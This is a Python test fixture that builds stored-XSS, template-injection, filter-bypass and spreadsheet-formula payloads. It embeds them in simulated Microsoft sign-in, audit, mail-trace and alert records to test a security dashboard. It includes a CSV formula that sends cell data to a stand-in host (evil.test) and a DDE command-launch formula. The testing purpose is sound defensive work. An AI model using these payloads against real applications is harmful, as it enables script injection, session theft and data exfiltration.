"""Stored-XSS payloads and the records that carry them into every attacker-controlled field.

Each payload names its own marker (``window.__xss_<n>``) or calls ``alert(<n>)``, so a page where
one runs says which. ``xss_records`` writes them in Microsoft's shapes (the demo tenant's), so
they go through the real adapters, detectors and playbook.
"""

import uuid
from datetime import UTC, datetime, timedelta

# MARK becomes window.__xss_<n>; NUM becomes <n>.
TEMPLATES = [
    "<script>MARK=1</script>",
    "<img src=x onerror=MARK=1>",
    '<img src="x" onerror="MARK=1">',
    "<svg onload=MARK=1>",
    "<svg/onload=MARK=1>",
    "<svg><script>MARK=1</script></svg>",
    '"><script>MARK=1</script>',
    "'><img src=x onerror=MARK=1>",
    '" autofocus onfocus="MARK=1" x="',
    "' onmouseover='MARK=1' x='",
    "javascript:MARK=1",
    '<a href="javascript:MARK=1">click</a>',
    "<a href=JaVaScRiPt:MARK=1>click</a>",
    '<a href="data:text/html,<script>parent.MARK=1</script>">data</a>',
    '<iframe srcdoc="<script>parent.MARK=1</script>"></iframe>',
    '<iframe src="javascript:parent.MARK=1"></iframe>',
    "<body onload=MARK=1>",
    "<details open ontoggle=MARK=1>",
    "<input autofocus onfocus=MARK=1>",
    "<video><source onerror=MARK=1></video>",
    "<audio src=x onerror=MARK=1>",
    '<object data="javascript:MARK=1"></object>',
    '<embed src="javascript:MARK=1">',
    "<form><button formaction=javascript:MARK=1>go</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=MARK=1>",
    '<noscript><p title="</noscript><img src=x onerror=MARK=1>">',
    "<svg><animate onbegin=MARK=1 attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:MARK=1"><text x="20" y="20">x</text></a></svg>',
    "<marquee onstart=MARK=1>x</marquee>",
    '<meta http-equiv="refresh" content="0;url=javascript:MARK=1">',
    '<base href="javascript:MARK=1//">',
    '<link rel="stylesheet" href="javascript:MARK=1">',
    "<style>@import 'javascript:MARK=1';</style>",
    '<div style="background:url(javascript:MARK=1)">x</div>',
    # htmx attribute injection: an element htmx would process if it reached the DOM.
    '<div hx-get="/alerts/" hx-trigger="load" hx-on::after-request="MARK=1">x</div>',
    '<div hx-on:htmx:load="MARK=1">x</div>',
    '<div hx-vals=\'js:{a:MARK=1}\' hx-post="/logout/" hx-trigger="load">x</div>',
    '<img src=x hx-on:error="MARK=1">',
    # Template injection: server-side (Django), client-side (Angular-style), JS template literals.
    "{{7*7}} {{ MARK }}",
    "{% csrf_token %}{% debug %}",
    "${MARK=1}",
    "#{7*7} <%= 7*7 %> [[7*7]]",
    "{{constructor.constructor('MARK=1')()}}",
    # JSON and script context breakers (charts and json_script).
    "</script><script>MARK=1</script>",
    '"}]}</script><script>MARK=1</script>',
    '\\"-MARK=1-\\"',
    "';MARK=1;//",
    # Unicode tricks.
    "evil\u202egnp.exe<script>MARK=1</script>",
    "<scr\u200bipt>MARK=1</scr\u200bipt>",
    "<\u200bimg src=x onerror=MARK=1>",
    "\uff1cscript\uff1eMARK=1\uff1c/script\uff1e",
    "<scr\x00ipt>MARK=1</script>",
    "\x00<img src=x onerror=MARK=1>",
    "<scr<script>ipt>MARK=1</scr</script>ipt>",
    "&lt;script&gt;MARK=1&lt;/script&gt;",
    "%3Cscript%3EMARK=1%3C/script%3E",
    "<textarea></textarea><script>MARK=1</script>",
    "<title></title><img src=x onerror=MARK=1>",
    # Dialogs rather than markers.
    "<img src=x onerror=alert(NUM)>",
    "<script>confirm(NUM)</script>",
    "<svg onload=prompt(NUM)>",
    # A polyglot, and a very long string with the payload first and last.
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+MARK=1//'>",
    "<script>MARK=1</script>" + "A" * 20000 + "<img src=x onerror=MARK=1>",
    # Spreadsheet formulas (the CSV exports).
    '=HYPERLINK("http://evil.test/?"&A1,"MARK")',
    "@SUM(1+1)*cmd|' /C calc'!A0 MARK",
]
UPN_TEMPLATES = [
    '"><img src=x onerror=MARK=1>@contoso.com',
    "<svg onload=MARK=1>/x@contoso.com",
]


def payload(n: int, template: str) -> str:
    return template.replace("MARK", f"window.__xss_{n}").replace("NUM", str(n))


PAYLOADS = [payload(n, template) for n, template in enumerate(TEMPLATES)]
UPN_PAYLOADS = [payload(len(TEMPLATES) + n, template) for n, template in enumerate(UPN_TEMPLATES)]
ATTACKER = "mallory@contoso.com"
VICTIM = "trudy@contoso.com"


def payload_groups(size: int = 11) -> list[list[str]]:
    """The payloads in groups of ``size`` (short ones only: a title holds a few hundred characters)."""
    short = [text for text in PAYLOADS if len(text) < 120]
    return [short[start : start + size] for start in range(0, len(short), size)]


def _iso(moment: datetime) -> str:
    return moment.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


def _id() -> str:
    return str(uuid.uuid4())


def _audit(operation: str, user: str, at: datetime, **fields) -> dict:
    return {
        "CreationTime": _iso(at),
        "Id": _id(),
        "Operation": operation,
        "RecordType": 1,
        "ResultStatus": "True",
        "Workload": "Exchange",
        "ClientIP": "102.89.32.18:40112",
        "UserId": user,
        **fields,
    }


def _cmdlet(operation: str, user: str, at: datetime, parameters: list[tuple[str, str]], **fields) -> dict:
    return _audit(operation, user, at, Parameters=[{"Name": k, "Value": v} for k, v in parameters], **fields)


def xss_records(now: datetime) -> dict[str, list[dict]]:
    """Records of every source with a payload in each attacker-controlled field."""
    records: dict[str, list[dict]] = {
        "entra-signins": [],
        "o365-audit": [],
        "message-trace": [],
        "graph-alerts": [],
        "events": [],
    }
    for n, text in enumerate(PAYLOADS):
        user = VICTIM if n % 10 == 0 else ATTACKER
        at = now - timedelta(hours=3, minutes=n)
        records["entra-signins"].append(
            {
                "id": _id(),
                "createdDateTime": _iso(at),
                "userDisplayName": text,
                "userPrincipalName": user,
                "appDisplayName": text,
                "ipAddress": "185.220.101.47",
                "clientAppUsed": "Browser",
                "userAgent": text,
                "riskLevelDuringSignIn": "high",
                "riskLevelAggregated": "high",
                "riskState": "atRisk",
                "riskEventTypes_v2": ["anonymizedIPAddress"],
                "resourceDisplayName": text,
                "status": {"errorCode": 0, "failureReason": text},
                "deviceDetail": {"operatingSystem": text, "browser": text},
                "location": {
                    "city": text,
                    "state": text,
                    "countryOrRegion": "NG",
                    "geoCoordinates": {"latitude": 6.52, "longitude": 3.38},
                },
            }
        )
        audit = records["o365-audit"]
        audit.append(
            _cmdlet(
                "New-InboxRule",
                user,
                at + timedelta(seconds=10),
                [
                    ("Mailbox", user),
                    ("Name", text),
                    ("SubjectOrBodyContainsWords", f"invoice;{text}"),
                    ("MoveToFolder", text),
                    ("ForwardTo", f"{text};x{n}@evil.test"),
                    ("MarkAsRead", "True"),
                ],
                ObjectId=f"{user}\\{text}",
                ClientInfoString=text,
            )
        )
        audit.append(
            _cmdlet(
                "Set-Mailbox",
                user,
                at + timedelta(seconds=20),
                [("Identity", user), ("ForwardingSmtpAddress", f"smtp:{text}")],
                ClientInfoString=text,
            )
        )
        audit.append(
            _audit(
                "MailItemsAccessed" if n % 2 else text,
                user,
                at + timedelta(seconds=30),
                RecordType=2,
                Item={"Subject": text, "ParentFolder": {"Path": text}},
                ClientInfoString=text,
            )
        )
        audit.append(
            _audit(
                "UserLoggedIn",
                user,
                at + timedelta(seconds=40),
                RecordType=15,
                Workload="AzureActiveDirectory",
                ExtendedProperties=[{"Name": "UserAgent", "Value": text}],
                IntraSystemId=_id(),
            )
        )
        audit.append(
            _audit(
                "Consent to application.",
                user,
                at + timedelta(seconds=50),
                RecordType=8,
                Workload="AzureActiveDirectory",
                ObjectId=text,
                Target=[{"ID": f"ServicePrincipal_{n}", "Type": 2}, {"ID": text, "Type": 1}],
                ModifiedProperties=[
                    {"Name": "ConsentContext.IsAdminConsent", "NewValue": "False", "OldValue": ""},
                    {"Name": "ConsentAction.Permissions", "OldValue": "", "NewValue": f"Scope: Mail.Read {text}"},
                ],
            )
        )
        records["message-trace"].append(
            {
                "MessageId": f"<{_id()}@contoso.com>",
                "Received": _iso(at + timedelta(minutes=1)),
                "SenderAddress": user,
                "RecipientAddress": f"ap{n}@fabrikam.com",
                "Subject": text,
                "Status": text,
                "FromIP": "102.89.32.18",
                "MessageTraceId": _id(),
            }
        )
        records["events"].append(
            {
                "id": f"ev-{n}",
                "user": user,
                "user_display_name": text,
                "user_department": text,
                "occurred_at": _iso(at + timedelta(seconds=5)),
                "kind": "other",
                "operation": text,
                "app": text,
                "user_agent": text,
                "city": text,
                "subject": text,
                "target": text,
                "attributes": {text: text, "nested": {"value": text}},
            }
        )
    # Each alert from another product becomes an alert of its own (and a playbook run): their
    # payloads travel in groups, one alert per group, so the corpus costs a few alerts, not 130.
    for n, group in enumerate(payload_groups()):
        user = VICTIM if n == 0 else ATTACKER
        text = " | ".join(group)
        at = now - timedelta(hours=1, minutes=n)
        records["o365-audit"].append(
            _audit(
                "AlertTriggered",
                user,
                at,
                RecordType=40,
                Workload="SecurityComplianceCenter",
                Name=text,
                AlertId=_id(),
                Severity="High",
                Category=text,
                Data=f'{{"f3u":"{user}","ad":"see title"}}',
            )
        )
        records["graph-alerts"].append(
            {
                "id": f"da{n:04d}{uuid.uuid4().hex}",
                "status": "new",
                "severity": "high",
                "serviceSource": text,
                "title": text,
                "description": text,
                "category": text,
                "createdDateTime": _iso(at),
                "firstActivityDateTime": _iso(at),
                "evidence": [
                    {
                        "@odata.type": "#microsoft.graph.security.userEvidence",
                        "userAccount": {"accountName": "m", "userPrincipalName": user, "displayName": text},
                    }
                ],
            }
        )
    for n, upn in enumerate(UPN_PAYLOADS):
        records["events"].append(
            {"id": f"upn-{n}", "user": upn, "occurred_at": _iso(now - timedelta(hours=2)), "kind": "signin"}
        )
    return records
